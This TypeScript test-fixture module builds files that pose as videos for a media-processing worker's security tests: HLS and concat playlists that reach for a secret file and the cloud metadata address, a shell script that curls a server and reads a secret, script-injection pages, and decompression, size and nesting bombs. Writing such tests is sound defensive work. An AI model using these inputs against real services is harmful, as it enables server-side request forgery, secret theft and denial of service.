import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { withTelemetry } from "#lib/domain/camera/testing/telemetry-mp4";
import { crc32 } from "#lib/domain/track/read/crc32";
import { fileUrl } from "../../worker/media/input.ts";
import { run } from "../../worker/media/run.ts";
import { makeFromLavfi } from "../../worker/testing/fixture-video.ts";
import { seededRandom } from "../sample-ride/random.ts";
import { box, cutOut, inside, latin, patched, u32 } from "./boxes.ts";
import type { World } from "./world.ts";

/** A file that poses as a video. `refused`: nothing of it may be taken; `either`: it may also be read as what it is. */
export type HostileVideo = {
  readonly name: string;
  readonly expected: "refused" | "either";
  readonly content: Uint8Array | string;
};

/** Every kind of it, small ones: made in less than a second or two. */
export async function hostileVideos(world: World): Promise<HostileVideo[]> {
  const honest = await honestFilm(world, "honest.mp4");
  return [...lists(world), ...(await references(world, honest)), ...(await claims(world, honest)), ...broken(honest)];
}

/** A film of a second, its index behind the picture. */
async function honestFilm({ folder }: World, name: string, options: readonly string[] = []): Promise<Buffer> {
  const path = join(folder, name);
  await makeFromLavfi(path, "testsrc2=s=320x180:r=25:d=1", options);
  return readFile(path);
}

/** Lists and scripts of other files, under a video's name. */
function lists({ secretPath, address }: World): HostileVideo[] {
  const refused = (name: string, content: string): HostileVideo => ({ name, expected: "refused", content });
  const metadata = "http://169.254.169.254/latest/meta-data/";
  return [
    refused(
      "HLS playlist of a file, a server and the cloud's metadata",
      `#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://${secretPath}\n#EXTINF:5,\n${address}/hls.ts\n#EXTINF:5,\n${metadata}\n#EXT-X-ENDLIST\n`,
    ),
    refused(
      "HLS with a key and an init section elsewhere",
      `#EXTM3U\n#EXT-X-MAP:URI="${address}/init"\n#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:5,\nconcat:${secretPath}\n#EXT-X-ENDLIST\n`,
    ),
    refused("concat script", `ffconcat version 1.0\nfile '${secretPath}'\nfile '${address}/concat'\n`),
    refused(
      "DASH manifest",
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${address}/dash</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ),
    refused(
      "session description (SDP)",
      "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    ),
    refused(
      "SVG with pictures elsewhere",
      `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><image href="${address}/svg"/><image href="file://${secretPath}"/></svg>`,
    ),
    refused(
      "ASS subtitles with a font elsewhere",
      `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${address}\n`,
    ),
    refused("a page with a script", `<!DOCTYPE html><script>fetch("${address}/xss")</script>`),
    refused("a shell script", `#!/bin/sh\ncurl ${address}/sh; cat ${secretPath}\n`),
  ];
}

/** Real containers that name other files. */
async function references(world: World, honest: Buffer): Promise<HostileVideo[]> {
  const { folder, secretPath, address } = world;
  const elsewhere = (kind: "url " | "alis", target: string) => {
    const location = box(kind, u32(0), latin(`${target}\0`));
    return replaceBox(honest, "dref", box("dref", u32(0, 1), location));
  };
  const attached = join(folder, "attached.mkv");
  await run([
    ...["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i", "testsrc2=s=320x180:r=25:d=1"],
    ...["-attach", secretPath, "-metadata:s:t", "mimetype=text/plain", "-c:v", "libx264", fileUrl(attached)],
  ]);
  return [
    {
      name: "MP4 whose samples lie at a server (dref url)",
      expected: "either",
      content: elsewhere("url ", `${address}/dref`),
    },
    {
      name: "MP4 whose samples lie in a file (dref url)",
      expected: "either",
      content: elsewhere("url ", `file://${secretPath}`),
    },
    { name: "MOV with an alias", expected: "either", content: elsewhere("alis", secretPath) },
    { name: "Matroska with a file attached", expected: "either", content: await readFile(attached) },
  ];
}

/** Small files that claim much. */
async function claims(world: World, honest: Buffer): Promise<HostileVideo[]> {
  const trak = cutOut(honest, "trak");
  const moov = cutOut(honest, "moov");
  const many = (count: number) =>
    Buffer.concat([
      cutOut(honest, "ftyp"),
      box("moov", cutOut(moov, "mvhd"), ...Array.from({ length: count }, () => trak)),
    ]);
  const timed = (name: string, ...options: string[]) => honestFilm(world, name, ["-c:v", "libx264", ...options]);
  return [
    { name: "100 hours in a second's bytes", expected: "refused", content: lasting(honest, 1280, 18_432_000) },
    { name: "a billion pictures a second", expected: "refused", content: lasting(honest, 1_000_000_000, 1) },
    {
      name: "a picture an hour",
      expected: "either",
      content: await timed(
        "slow.mp4",
        "-frames:v",
        "3",
        "-bsf:v",
        "setts=ts=N*90000000:duration=90000000",
        "-video_track_timescale",
        "25000",
      ),
    },
    { name: "65535 × 65535 in the container", expected: "either", content: patched(honest, "avc1", 24, 0xffffffff) },
    { name: "65535 × 65535 in AVI", expected: "refused", content: await hugeAvi(world) },
    {
      name: "pixels 60,000 times as wide as high",
      expected: "refused",
      content: await honestFilm(world, "wide.mkv", ["-c:v", "libx264", "-aspect", "60000:1"]),
    },
    {
      name: "20,000 × 20,000 pixels packed into 0.4 MB (PNG)",
      expected: "either",
      content: await pngFilm(world, 20_000),
    },
    { name: "8192 × 8192 pixels packed into 66 kB (PNG)", expected: "either", content: await pngFilm(world, 8192) },
    { name: "width and height 0", expected: "refused", content: await rawAvi(world, 0, 0) },
    { name: "500 streams", expected: "refused", content: many(500) },
    { name: "10,000 streams", expected: "refused", content: many(10_000) },
    {
      name: "four thousand million samples in the table (stsz)",
      expected: "either",
      content: patched(honest, "stsz", 8, 0xffffffff),
    },
    {
      name: "four thousand million samples of one length (stts)",
      expected: "either",
      content: patched(honest, "stts", 8, 0xffffffff),
    },
    {
      name: "sample offsets beyond the end (stco)",
      expected: "either",
      content: patched(honest, "stco", 8, 0xfffffff0),
    },
    { name: "an edit list from before the beginning", expected: "either", content: patched(honest, "elst", 12, -5000) },
    { name: "a timescale of 0", expected: "either", content: patched(honest, "mdhd", 12, 0) },
    { name: "telemetry of four thousand million values (GPMF)", expected: "either", content: absurdTelemetry(honest) },
  ];
}

/** The film's 25 pictures, each of so many units of a second's `timescale`. */
function lasting(honest: Buffer, timescale: number, each: number): Buffer {
  const timed = patched(patched(honest, "stts", 12, each), "mdhd", 12, timescale, 25 * each);
  const shown = Math.round((25_000 * each) / timescale);
  return patched(patched(timed, "mvhd", 16, shown), "elst", 8, shown);
}

/** Files whose inside makes no sense. */
function broken(honest: Buffer): HostileVideo[] {
  const ftyp = cutOut(honest, "ftyp");
  const page = box("free", latin("<html><script>alert(1)</script></html>"));
  const random = seededRandom(1);
  const noise = Buffer.from(Array.from({ length: 200_000 }, () => Math.floor(random() * 256)));
  let nested: Buffer = Buffer.alloc(0);
  for (let depth = 0; depth < 20_000; depth++) nested = box(depth % 2 ? "moov" : "udta", nested.subarray(0, 160_000));
  const refused = (name: string, content: Buffer): HostileVideo => ({ name, expected: "refused", content });
  return [
    refused("nothing but a header", ftyp),
    refused("noise behind a header", Buffer.concat([ftyp, noise])),
    refused("the index missing", Buffer.concat([ftyp, box("mdat", noise)])),
    refused("cut in the middle of the index", honest.subarray(0, honest.length - 400)),
    refused("boxes in boxes, 20,000 deep", Buffer.concat([ftyp, nested])),
    refused(
      "a box that is its own end (size 0, 1, 7)",
      Buffer.concat([ftyp, ...[0, 1, 7].flatMap((size) => [u32(size), latin("moov")])]),
    ),
    refused("a box of 2^63 bytes", Buffer.concat([ftyp, u32(1), latin("moov"), u32(0x7fffffff, 0xffffffff)])),
    refused(
      "Matroska of unknown sizes",
      Buffer.concat([Buffer.from("1a45dfa3", "hex"), Buffer.from("01ffffffffffffff".repeat(2000), "hex")]),
    ),
    refused(
      "ASF of endless objects",
      Buffer.concat([Buffer.from("3026b2758e66cf11a6d900aa0062ce6c", "hex"), Buffer.alloc(4096, 0xff)]),
    ),
    {
      name: "a film that is a page too (polyglot)",
      expected: "either",
      content: patched(
        Buffer.concat([ftyp, page, honest.subarray(ftyp.length)]),
        "stco",
        8,
        honest.readUInt32BE(inside(honest, "stco") + 8) + page.length,
      ),
    },
    {
      name: "a film that is an archive too (polyglot)",
      expected: "either",
      content: Buffer.concat([honest, Buffer.from("504b0506000000000000000000000000000000000000", "hex")]),
    },
  ];
}

/** A box replaced by another one, and the sizes around it made right. */
function replaceBox(file: Buffer, type: string, other: Buffer): Buffer {
  const at = inside(file, type) - 8;
  const old = file.readUInt32BE(at);
  const copy = Buffer.concat([file.subarray(0, at), other, file.subarray(at + old)]);
  for (const parent of ["moov", "trak", "mdia", "minf", "dinf"]) {
    const start = inside(copy, parent) - 8;
    if (start < at && at < start + file.readUInt32BE(start))
      copy.writeUInt32BE(copy.readUInt32BE(start) + other.length - old, start);
  }
  return copy;
}

async function rawAvi(world: World, width: number, height: number): Promise<Buffer> {
  const path = join(world.folder, `raw-${width}.avi`);
  await makeFromLavfi(path, "testsrc2=s=64x64:r=25:d=0.2", ["-c:v", "rawvideo"]);
  const file = await readFile(path);
  // BITMAPINFOHEADER, behind the second field of `strf`.
  const at = inside(file, "strf") + 8;
  file.writeInt32LE(width, at);
  file.writeInt32LE(height, at + 4);
  return file;
}

const hugeAvi = (world: World) => rawAvi(world, 65_535, 65_535);

/** A grey PNG of zeros as the only picture of a MOV that says 64 × 64: what the picture's header says is unpacked to. */
async function pngFilm({ folder }: World, side: number): Promise<Buffer> {
  const path = join(folder, "small.mov");
  await makeFromLavfi(path, "color=s=64x64:r=25:d=1", ["-frames:v", "1", "-c:v", "png"]);
  const small = await readFile(path);
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([latin(type), data]);
    return Buffer.concat([u32(data.length), body, u32(crc32(0, body))]);
  };
  const header = Buffer.concat([u32(side, side), Buffer.from([8, 0, 0, 0, 0])]);
  const pixels = deflateSync(Buffer.alloc(side * (side + 1)), { level: 9 });
  const signature = Buffer.from("89504e470d0a1a0a", "hex");
  const picture = [signature, chunk("IHDR", header), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))];
  // In the place of the small one: the index comes behind, so its offset stays.
  const film = replaceBox(small, "mdat", box("mdat", ...picture));
  return patched(film, "stsz", 4, Buffer.concat(picture).length);
}

function absurdTelemetry(film: Buffer): Uint8Array {
  const absurd = Buffer.concat([
    latin("DEVC"),
    Buffer.from([0, 0xff, 0xff, 0xff]),
    latin("STRM"),
    Buffer.from([0, 0xff, 0xff, 0xff]),
    latin("GPS5"),
    Buffer.from([0x6c, 0xff, 0xff, 0xff]),
  ]);
  return withTelemetry(
    film,
    Array.from({ length: 50 }, () => new Uint8Array(absurd)),
  );
}
